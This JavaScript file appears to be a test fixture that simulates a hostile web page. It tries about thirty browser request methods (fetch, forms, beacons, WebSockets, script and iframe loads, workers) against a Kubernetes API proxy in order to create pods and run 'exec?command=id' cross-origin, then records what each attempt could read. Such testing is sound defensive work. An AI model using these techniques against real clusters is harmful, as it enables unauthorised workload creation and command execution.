// What a hostile page tries. Each attempt makes one request to `url` and resolves to what the page could read of the answer.
const CREATE = '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"theirs"}}';

const text = async (answer) => (await answer).text();
const nothing = () => '';

/** No Content-Type: no preflight, and the API server takes the body for JSON. */
const typeless = () => new Blob([CREATE]);

/** Resolves when the element has loaded, or failed to; `read` says what the page sees then. */
function element(name, properties, read = nothing) {
  return new Promise((resolve) => {
    const made = Object.assign(document.createElement(name), properties);
    made.onload = () => resolve(Promise.resolve(made).then(read));
    made.onerror = () => resolve('');
    document.documentElement.append(made);
  });
}

/** What an answer left behind that ran as a script. */
const ranAsScript = () => globalThis.stolen ?? '';
const documentText = ({ contentDocument }) => contentDocument?.documentElement.textContent ?? '';

function form(url, enctype, target) {
  const made = Object.assign(document.createElement('form'), {
    method: 'POST',
    action: url,
    enctype,
    target,
  });
  made.append(Object.assign(document.createElement('input'), { name: CREATE, value: '' }));
  document.documentElement.append(made);
  made.submit();
}

function formInFrame(url, enctype) {
  return new Promise((resolve) => {
    const frame = Object.assign(document.createElement('iframe'), { name: enctype });
    document.documentElement.append(frame);
    frame.onload = () => resolve(documentText(frame));
    form(url, enctype, enctype);
  });
}

/** What the page can see in a window that it has opened: it is shut out as soon as that window is at another origin. */
async function windowText(opened) {
  try {
    while (opened.location.href === 'about:blank' || opened.document.readyState !== 'complete')
      await new Promise((resolve) => setTimeout(resolve, 10));
    return opened.document.documentElement.textContent;
  } catch {
    return '';
  }
}

function formInWindow(url) {
  const opened = window.open('', 'form-in-window');
  form(url, 'text/plain', 'form-in-window');
  return windowText(opened);
}

function xhr(url) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.onloadend = () => resolve(request.responseText);
    request.send();
  });
}

function eventSource(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url);
    const done = (read) => {
      source.close();
      resolve(read);
    };
    source.onmessage = ({ data }) => done(data);
    source.onerror = () => done('');
  });
}

function webSocket(url, protocols) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url.replace(/^http/, 'ws'), protocols);
    socket.onmessage = ({ data }) => {
      resolve(data);
      socket.close();
    };
    socket.onclose = () => resolve('');
  });
}

function worker(url) {
  const source = `try { importScripts('${url}') } catch {} postMessage(self.stolen ?? '')`;
  return new Promise((resolve) => {
    const made = new Worker(URL.createObjectURL(new Blob([source])));
    made.onmessage = ({ data }) => resolve(data);
    made.onerror = () => resolve('');
  });
}

/** Chromium tells nobody when an object gets an error for an answer. */
function unloaded(url) {
  element('object', { data: url });
  return '';
}

function ping(url) {
  Object.assign(document.createElement('a'), { href: '#', ping: url }).click();
  return '';
}

function beacon(url, body) {
  navigator.sendBeacon(url, body);
  return '';
}

const ATTEMPTS = {
  fetch: (url) => text(fetch(url)),
  'fetch-field': (url) => text(fetch(url, { headers: { 'X-Theirs': '1' } })),
  'fetch-credentials': (url) => text(fetch(url, { credentials: 'include' })),
  'fetch-json': (url) =>
    text(
      fetch(url, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: CREATE,
        credentials: 'include',
      }),
    ),
  'fetch-delete': (url) => text(fetch(url, { method: 'DELETE' })),
  'fetch-keepalive': (url) =>
    text(fetch(url, { method: 'POST', keepalive: true, mode: 'no-cors', body: CREATE })),
  'no-cors-get': (url) => text(fetch(url, { mode: 'no-cors', credentials: 'include' })),
  'no-cors-typeless': (url) =>
    text(fetch(url, { method: 'POST', mode: 'no-cors', body: typeless(), credentials: 'include' })),
  xhr,
  'beacon-typeless': (url) => beacon(url, typeless()),
  'beacon-text': (url) => beacon(url, CREATE),
  ping,
  'form-urlencoded': (url) => formInFrame(url, 'application/x-www-form-urlencoded'),
  'form-multipart': (url) => formInFrame(url, 'multipart/form-data'),
  'form-text': (url) => formInFrame(url, 'text/plain'),
  'form-in-window': formInWindow,
  image: (url) => element('img', { src: url }),
  script: (url) => element('script', { src: url }, ranAsScript),
  'module-script': (url) => element('script', { src: url, type: 'module' }, ranAsScript),
  stylesheet: (url) =>
    element('link', { rel: 'stylesheet', href: url }, ({ sheet }) => `${sheet.cssRules.length}`),
  prefetch: (url) => element('link', { rel: 'prefetch', href: url }),
  iframe: (url) => element('iframe', { src: url }, documentText),
  object: unloaded,
  embed: (url) => element('embed', { src: url }),
  'event-source': eventSource,
  'web-socket': (url) => webSocket(url, []),
  'web-socket-protocol': (url) => webSocket(url, ['v4.channel.k8s.io']),
  worker,
  // A navigation, and a GET that changes things.
  window: (url) => windowText(window.open(`${url}/exec?command=id`)),
};

/** Tries everything on a porthole at `base`, each with a pod of its own. Resolves to what could be read, by attempt. */
globalThis.attack = async (base) => {
  const pods = `${base}/api/v1/namespaces/${new URL(base).hostname}/pods`;
  const tries = Object.entries(ATTEMPTS).map(async ([name, attempt]) => {
    const read = await Promise.resolve(attempt(`${pods}/${name}`)).catch(nothing);
    return [name, read];
  });
  return Object.fromEntries(await Promise.all(tries));
};
